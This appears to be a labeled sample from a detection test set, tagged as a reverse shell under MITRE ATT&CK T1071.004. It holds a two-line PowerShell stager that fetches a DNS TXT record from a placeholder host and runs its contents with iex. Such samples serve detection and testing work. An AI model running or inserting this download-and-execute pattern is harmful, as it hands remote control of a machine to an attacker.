# expect: reverse-shell | source: MITRE ATT&CK T1071.004
$t = (Resolve-DnsName -Name a.example.invalid -Type TXT).Strings -join ''
iex $t
